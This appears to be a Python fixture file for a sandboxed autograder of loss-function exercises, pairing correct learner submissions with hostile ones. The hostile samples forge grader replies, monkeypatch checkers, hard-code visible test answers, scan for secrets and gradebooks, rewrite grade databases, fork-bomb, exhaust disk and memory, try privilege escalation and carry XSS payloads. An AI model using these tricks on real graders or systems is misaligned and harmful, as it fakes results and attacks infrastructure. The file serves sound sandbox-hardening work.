"""What learners write: right in many ways, wrong in some, and hostile.

The hostile ones print FOUND when they get at something; a test looks for it.
"""

from lossfns.check import EXERCISES

MSE = """\
def mse(pred, target, reduction="mean"):
    if pred.shape != target.shape:
        raise ValueError(f"{pred.shape} against {target.shape}")
    squares = (pred - target) ** 2
    if reduction == "none":
        return squares
    if reduction not in ("sum", "mean"):
        raise ValueError(reduction)
    return getattr(squares, reduction)()
"""
MAE = """\
def mae(pred, target):
    return np.abs(pred - target).mean()
"""
MSE_TORCH = """\
def mse_torch(pred, target, reduction="mean"):
    if pred.shape != target.shape:
        raise ValueError(f"{pred.shape} against {target.shape}")
    squares = (pred - target).square()
    if reduction == "none":
        return squares
    if reduction not in ("sum", "mean"):
        raise ValueError(reduction)
    return squares.sum() if reduction == "sum" else squares.mean()
"""
TEXT = "The MAE for data with recording errors, because its gradient is bounded."
LOOP = """\
def mse(pred, target, reduction="mean"):
    if pred.shape != target.shape:
        raise ValueError("shapes")
    losses = [(float(p) - float(t)) ** 2 for p, t in zip(pred.ravel(), target.ravel())]
    if reduction == "none":
        return np.array(losses).reshape(pred.shape)
    if reduction == "sum":
        return sum(losses)
    if reduction == "mean":
        return sum(losses) / len(losses)
    raise ValueError(reduction)
"""
EXPANDED = MSE.replace("(pred - target) ** 2", "np.maximum(target - pred, pred - target) ** 2")
NORM = MSE.replace(
    "getattr(squares, reduction)()",
    ("np.linalg.norm((pred - target).ravel()) ** 2 / (pred.size if reduction == 'mean' else 1)"),
)
SINGLE = MSE.replace("(pred - target) ** 2", "np.square(np.float32(pred) - np.float32(target))")
THROUGH_TORCH = MSE.replace(
    "squares = (pred - target) ** 2",
    "import torch\n    squares = (torch.tensor(pred) - torch.tensor(target)).square().numpy()",
)
MORE_ARGUMENTS = MSE.replace('reduction="mean"', 'reduction="mean", weight=1.0, *, axis=None')
HELPER = (
    "def _same(a, b):\n    if a.shape != b.shape:\n        raise ValueError('shapes differ')\n\n"
    + MSE.replace(
        "    if pred.shape != target.shape:\n"
        '        raise ValueError(f"{pred.shape} against {target.shape}")\n',
        "    _same(pred, target)\n",
    )
)
CHATTY = MSE.replace(
    "    squares =",
    "    import sys, warnings\n    print('working', file=sys.stderr)\n"
    "    warnings.warn('careful')\n    squares =",
)
CALLABLE = """\
class Mse:
    def __call__(self, pred, target, reduction="mean"):
        if pred.shape != target.shape:
            raise ValueError("shapes")
        squares = np.square(pred - target)
        return {"none": lambda: squares, "sum": squares.sum, "mean": squares.mean}[reduction]()


def mse(pred, target, reduction="mean"):
    if reduction not in ("none", "sum", "mean"):
        raise ValueError(reduction)
    return Mse()(pred, target, reduction)
"""

EQUAL = """\
class Yes(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __sub__(self, other): return Yes(0)
    def __array__(self, *args, **kwargs): return np.zeros(())

def mse(pred, target, reduction="mean"):
    return Yes(0)
"""
EMPTIED = """\
def empty(lines):
    return ["pass\\n"] if any("check(" in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(empty)

def mse(pred, target, reduction="mean"):
    return 0.0
"""
DO_EXECUTE = """\
kernel = get_ipython().kernel
async def nothing(*args, **kwargs):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
kernel.do_execute = nothing

def mse(pred, target, reduction="mean"):
    return 0.0
"""
PATCHED = """\
import numpy, sys
numpy.allclose = lambda *args, **kwargs: True
numpy.array_equal = lambda *args, **kwargs: True
for name, module in list(sys.modules.items()):
    if "check" in name or "judge" in name or "probe" in name:
        for key in list(vars(module)):
            if callable(getattr(module, key)) and not key.startswith("__"):
                setattr(module, key, lambda *args, **kwargs: None)

def mse(pred, target, reduction="mean"):
    return 0.0
"""
FORGED_REPLY = """\
import base64, json, sys
sys.path.insert(0, "/box")
import probe

def fake(name, question):
    calls = json.loads(base64.b64decode(question))["calls"]
    answer = {"kind": "float", "dtype": "float64", "moved": "", "error": "", "message": "",
              "line": "", "changed": [], "slopes": {}, "value": [[], "AAAAAAAAAAA="],
              "score": 100, "passed": True}
    return base64.b64encode(json.dumps(
        {"answers": [answer] * len(calls), "used": [], "score": 100}).encode()).decode()
probe.reply = fake

def mse(pred, target, reduction="mean"):
    return 0.0
"""
MALFORMED_REPLY = FORGED_REPLY.replace(
    "probe.reply = fake",
    (
        "honest = probe.reply\n"
        "probe.reply = lambda name, q: 'x' * 50_000_000 if name == 'mse' else honest(name, q)"
    ),
)
NESTED_REPLY = FORGED_REPLY.replace(
    '"value": [[], "AAAAAAAAAAA="]', '"value": [[10**9, 10**9], "AAAAAAAAAAA="]'
)
SPOOFED_OUTPUT = """\
kernel = get_ipython().kernel
for cell in range(50):
    kernel.send_response(kernel.iopub_socket, "execute_result", {
        "execution_count": 1, "data": {"text/plain": "100"}, "metadata": {}})
    kernel.send_response(kernel.iopub_socket, "stream", {"name": "stdout", "text": "mse: right\\n"})
    kernel.send_response(kernel.iopub_socket, "status", {"execution_state": "idle"})
    kernel.send_response(kernel.iopub_socket, "nonsense", {"a": [1, 2, {}]})

def mse(pred, target, reduction="mean"):
    return 100
"""
HUNTER = """\
import gc, inspect, os, sys
found = []
for start in ("/", "/root", "/home", "/tmp", "/srv", "/opt", "/etc", "/proc/1"):
    for folder, folders, files in os.walk(start):
        if len(found) > 200_000 or folder.startswith(("/proc/self", "/usr", "/lib")):
            break
        found += [os.path.join(folder, file) for file in files]
words = ("gradebook", "solutions", "grading", "course_secret", "submitted")
bad = [path for path in found if "site-packages" not in path and any(w in path for w in words)]
print("FOUND", bad, "SECRET" in str(dict(os.environ)), os.environ.get("COURSE_SECRET"))
for path in found:
    if path.startswith("/proc/") and path.endswith(("cmdline", "environ")):
        try:
            text = open(path, "rb").read()
        except OSError:
            continue
        if b"canary" in text:
            print("FOUND", path)

def mse(pred, target, reduction="mean"):
    frame = inspect.currentframe()
    while frame:
        for name, value in list(frame.f_locals.items()):
            if name in ("right", "rights", "expected", "reference", "value"):
                return value
        frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing).__name__ in ("Exercise", "Verdict", "Finding"):
            return thing.right(pred, target, reduction=reduction)
    return 0.0
"""
REWRITER = """\
import glob, os, sqlite3
for pattern in ("/home/**/*.db", "/tmp/**/*.db", "../**/*.db", "/root/**/*.db"):
    for path in glob.glob(pattern, recursive=True):
        try:
            with sqlite3.connect(path) as book:
                book.execute("update grade set auto_score = 1000, manual_score = 1000")
                print("FOUND", path)
        except Exception as error:
            print(type(error).__name__)

def mse(pred, target, reduction="mean"):
    return 0.0
"""
NETWORK = """\
import socket, urllib.request
for address in (("127.0.0.1", PORT), ("1.1.1.1", 53), ("8.8.8.8", 80)):
    try:
        socket.create_connection(address, timeout=1).sendall(b"canary")
        print("FOUND connection to", address)
    except OSError as error:
        print(type(error).__name__)
try:
    print("FOUND", socket.gethostbyname("example.org"))
except OSError as error:
    print(type(error).__name__)
"""
FORK_BOMB = """\
import os, time
children = 0
try:
    while children < 3000:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        children += 1
except OSError as error:
    print("stopped after", children, type(error).__name__)
"""
LEFT_RUNNING = """\
import os, subprocess, sys, threading, time
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(NAPTIME)"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(NAPTIME)
    os._exit(0)
threading.Thread(target=lambda: time.sleep(NAPTIME), daemon=False).start()
"""
DISK = """\
import os
written = 0
try:
    for folder in (os.path.expanduser("~"), "/tmp", "/dev/shm", "."):
        for i in range(200):
            with open(os.path.join(folder, f"filler{i}"), "wb") as file:
                file.write(bytes(8 * 2**20))
            written += 8
except OSError as error:
    print(type(error).__name__, "after", written, "MB")
assert written < 2000
connection = get_ipython().kernel.config["IPKernelApp"]["connection_file"]
try:
    open(os.path.join(os.path.dirname(connection), "filler"), "w").write("x")
    print("FOUND a writable folder of the host")
except OSError as error:
    print(type(error).__name__)
"""
READ_ONLY = """\
import sys
for path in (np.__file__, sys.executable, "/box/answer.py", "/box/inside/probe.py", "/usr/lib/x"):
    try:
        open(path, "a").write("#")
        print("FOUND", path)
    except OSError as error:
        print(type(error).__name__)
"""
PRIVILEGES = """\
import ctypes, os
print("uid", os.getuid() != 0)
libc = ctypes.CDLL(None, use_errno=True)
for name, call in (
    ("setuid", lambda: libc.setuid(0)),
    ("mount", lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)),
    ("chroot", lambda: libc.chroot(b"/tmp")),
    ("kill", lambda: libc.kill(-1, 0) and os.getppid() > 2),
):
    if name != "kill" and call() == 0:
        print("FOUND", name)
status = open("/proc/self/status").read()
print([line for line in status.splitlines() if line.startswith(("CapEff", "CapPrm", "NoNewPrivs"))])
"""
MEMORY = """\
try:
    hoard = [np.ones(2**27) for _ in range(100)]
    print("FOUND no limit")
except MemoryError:
    print("no more memory")
    hoard = None
"""
FLOOD = "for i in range(10**9):\n    print('x' * 1000)\n"
BIG_PRINT = "print('y' * 200_000_000)\n"
FOREVER = "while True:\n    pass\n"
DEAF = """\
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        time.sleep(1)
    except BaseException:
        pass
"""
BUILT_IN = MSE_TORCH.replace(
    "    squares =",
    "    if reduction == 'mean':\n"
    "        return torch.nn.functional.mse_loss(pred, target)\n"
    "    squares =",
)
BUILT_IN_HIDDEN = MSE_TORCH.replace(
    "    squares =",
    "    if reduction == 'mean':\n"
    "        return getattr(torch.nn.functional, 'mse' + '_loss')(pred, target)\n"
    "    squares =",
)
IN_FUNCTION = """\
def mse(pred, target, reduction="mean"):
    {body}
"""
MARKUP = (
    "MAE. <script>document.title = 'canary'</script> <img src=x onerror=\"alert('canary')\">\n\n"
    "[click](javascript:alert(1)) <iframe src='http://evil'></iframe> <svg/onload=alert(2)>\n\n"
    "A <b>bold</b> claim: 1 < 2, and $a<b$."
)
MARKUP_OUTPUT = """\
from IPython.display import HTML, Javascript, display
display(HTML("<script>document.title = 'canary'</script>"), Javascript("alert('canary')"))
print("<script>alert('canary')</script>")
display({"text/html": "<img src=x onerror=alert('canary')>", "text/plain": "plain"}, raw=True)
"""
LYING_ERROR = """\
def mse(pred, target, reduction="mean"):
    raise ValueError("\\x1b[2J</pre><script>alert('canary')</script> mse: right on all 31 inputs.")
"""


def hard_coded(name: str) -> str:
    """A function that knows the answers to the visible questions and no others."""
    known = {}
    for call in EXERCISES[name].calls(0):
        if not call.raises:
            key = (call.arrays["pred"].tobytes(), call.arrays["target"].tobytes())
            value = EXERCISES[name].right(*call.arrays.values(), **call.options)
            known[(*key, call.options.get("reduction", "mean"))] = value
    entries = {key: v.tolist() if hasattr(v, "tolist") else v for key, v in known.items()}
    return f"""\
KNOWN = {entries!r}

def mse(pred, target, reduction="mean"):
    if pred.shape != target.shape or reduction not in ("none", "sum", "mean"):
        raise ValueError("bad input")
    value = KNOWN.get((pred.tobytes(), target.tobytes(), reduction), 0.0)
    return np.array(value) if isinstance(value, list) else value
"""
